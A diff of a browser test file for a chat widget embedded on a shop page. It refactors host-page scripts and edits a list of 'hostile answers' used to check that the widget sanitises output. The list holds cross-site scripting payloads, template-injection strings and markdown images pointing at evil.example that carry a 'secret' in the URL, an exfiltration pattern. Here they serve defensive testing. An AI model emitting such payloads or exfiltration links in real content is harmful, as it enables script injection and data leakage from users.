@@ -23,13 +23,12 @@ describe("on the host page", () => {
     const { page, complaints } = await stage.arrive(
       {},
       {
-        script() {
+        script: () =>
           Object.defineProperty(window, "localStorage", {
-            get() {
+            get: () => {
               throw new DOMException("blocked", "SecurityError");
             },
-          });
-        },
+          }),
       },
     );
     await chatWorks(page);
@@ -134,17 +133,15 @@ describe("on the host page", () => {
   });
 
   test("keeps keys typed into it from the page's shortcuts", async () => {
-    const { page } = await stage.arrive(
-      {},
-      {
-        script() {
-          document.addEventListener("keydown", (event) => document.body.append(`[${event.key}]`));
-        },
-      },
-    );
+    const script = (): void =>
+      document.addEventListener("keydown", (event) => {
+        document.title += `[${event.key}]`;
+      });
+    const { page } = await stage.arrive({}, { script });
+    await page.keyboard.press("p");
     await openChat(page);
     await page.getByRole("textbox").press("s");
-    expect(await page.locator("body").innerText()).not.toContain("[s]");
+    expect(await page.title()).toBe("Shop[p]");
   });
 });
 
@@ -152,7 +149,7 @@ describe("hostile answers", () => {
   const texts = [
     "<script>alert(1)</script><img src=https://evil.example/x onerror=alert(1)>",
     "<svg onload=alert(1)><iframe src=//evil.example></iframe><a href='javascript:alert(1)'>x</a>",
-    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %>",
+    "{{constructor.constructor('alert(1)')()}} #{alert(1)} <%= 1 %>",
     "[click](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [y](&#106;avascript:alert(1)) [z](data:text/html,<b>)",
     "![pixel](https://evil.example/p.png?secret) ![ref][1] https://evil.example/?q=secret",
     "[cited](https://shop.example/prices) and [not](https://shop.example.evil.example/prices) [1] [2] [99]",
